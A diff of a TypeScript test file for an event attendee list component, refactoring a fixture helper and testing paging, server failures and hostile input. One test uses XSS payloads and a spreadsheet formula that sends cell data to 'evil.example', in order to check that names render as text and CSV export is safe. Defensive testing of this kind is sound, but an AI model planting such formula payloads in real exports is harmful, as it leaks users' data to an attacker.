@@ -9,18 +9,18 @@ import type { DownloadDetail } from '../../shared/staff/download.js';
 import { cacheForOrigin } from '../../api/cache.js';
 import { expectInert, expectLoadingSkeleton, part, parts, settled, stopServerAfterEach, text, xssPayloads } from '../../../test/helpers/element.js';
 import { scriptedServer, type LoopbackServer, type Reply } from '../../../test/helpers/servers.js';
-import { expectNonceSentAndExpired, expectStaffFailure, proxiedSite, rowNames, totalsOf } from '../../../test/helpers/staff.js';
+import {
+  expectNonceSentAndExpired,
+  expectStaffFailure,
+  proxiedSite,
+  rowNames,
+  totalsOf,
+  wireAttendee,
+  type WireAttendee,
+} from '../../../test/helpers/staff.js';
 
 const TOKEN = 'staff-token-for-attendee-tests-9876543210';
 const ATTENDEES = '/wp/v2/mep_event_attendee';
-
-/** One raw attendee post as the wire has it (the test's own reading, not the element's). */
-interface WireAttendee {
-  id: number;
-  date: string;
-  title: { rendered: string };
-  attendee_informations: Record<string, string[]>;
-}
 
 /** The test's own reading of a wire attendee: meta values as sent, entities decoded where the site encodes them. */
 interface Expected {
@@ -411,27 +411,6 @@ describe('<event-attendee-list> paging, failures and hostile data', () => {
   let server: LoopbackServer | undefined;
   stopServerAfterEach(() => server, { cleanup: true, reset: () => (server = undefined) });
 
-  /** A wire attendee with the plugin's meta keys. */
-  function wire(id: number, fields: Partial<Record<'name' | 'email' | 'phone' | 'event' | 'type' | 'checkin', string>> = {}): WireAttendee {
-    const name = fields.name ?? `Guest ${id}`;
-    return {
-      id,
-      date: '2026-11-01T10:00:00',
-      title: { rendered: name },
-      attendee_informations: {
-        ea_name: [name],
-        ea_email: [fields.email ?? `guest${id}@example.com`],
-        ea_phone: [fields.phone ?? `030 ${id}`],
-        ea_event_id: ['7'],
-        ea_event_name: [fields.event ?? 'Winter Gala'],
-        ea_ticket_type: [fields.type ?? (id % 2 ? 'VIP' : 'Standard')],
-        ea_event_date: ['2026-12-01 19:00:00'],
-        ea_order_id: [String(5000 + id)],
-        mep_checkin: [fields.checkin ?? (id % 3 === 0 ? 'yes' : 'no')],
-      },
-    };
-  }
-
   async function scripted(status: number, body: unknown): Promise<string> {
     server = await scriptedServer([{ status, body }]);
     return `${server.origin}/wp-json`;
@@ -441,10 +420,10 @@ describe('<event-attendee-list> paging, failures and hostile data', () => {
     const paging = { 'X-WP-Total': '5150', 'X-WP-TotalPages': '52' };
     const routes: Record<string, Reply[]> = {};
     for (let page = 1; page <= 50; page++)
-      routes[`?page=${page}&`] = [{ status: 200, headers: paging, body: Array.from({ length: 100 }, (_, n) => wire(page * 1000 + n)) }];
+      routes[`?page=${page}&`] = [{ status: 200, headers: paging, body: Array.from({ length: 100 }, (_, n) => wireAttendee(page * 1000 + n)) }];
     const failure: Reply = { status: 500, body: { code: 'internal_server_error', message: 'There has been a critical error.', data: { status: 500 } } };
-    routes['?page=51&'] = [failure, { status: 200, headers: paging, body: Array.from({ length: 100 }, (_, n) => wire(51_000 + n)) }];
-    routes['?page=52&'] = [{ status: 200, headers: paging, body: Array.from({ length: 50 }, (_, n) => wire(52_000 + n)) }];
+    routes['?page=51&'] = [failure, { status: 200, headers: paging, body: Array.from({ length: 100 }, (_, n) => wireAttendee(51_000 + n)) }];
+    routes['?page=52&'] = [{ status: 200, headers: paging, body: Array.from({ length: 50 }, (_, n) => wireAttendee(52_000 + n)) }];
     server = await scriptedServer([{ status: 400, body: { code: 'rest_invalid_param', message: 'unexpected request', data: { status: 400 } } }], routes);
     const el = await attendeeList(`${server.origin}/wp-json`, { authorization: 'Bearer x' });
     await settled(el);
@@ -470,7 +449,7 @@ describe('<event-attendee-list> paging, failures and hostile data', () => {
   });
 
   it('reads every page when more than 100 exist (X-WP-Total / X-WP-TotalPages), one after another; CSV holds every row', async () => {
-    const rows = Array.from({ length: 150 }, (_, index) => wire(1000 + index));
+    const rows = Array.from({ length: 150 }, (_, index) => wireAttendee(1000 + index));
     const paging = { 'X-WP-Total': '150', 'X-WP-TotalPages': '2' };
     const page = (items: WireAttendee[]): Reply[] => [{ status: 200, headers: paging, body: items }];
     server = await scriptedServer([{ status: 400, body: { code: 'rest_invalid_param', message: 'unexpected request', data: { status: 400 } } }], {
@@ -543,7 +522,7 @@ describe('<event-attendee-list> paging, failures and hostile data', () => {
   it('hostile names render as text; quotes, commas and formula starts are safe in the CSV', async () => {
     const payloads = xssPayloads('__attendeeXss');
     const rows = payloads.map((name, index) =>
-      wire(900 + index, {
+      wireAttendee(900 + index, {
         name,
         email: `=HYPERLINK("http://evil.example/?"&A1,"x${index}")`,
         phone: '@SUM(1+1)',
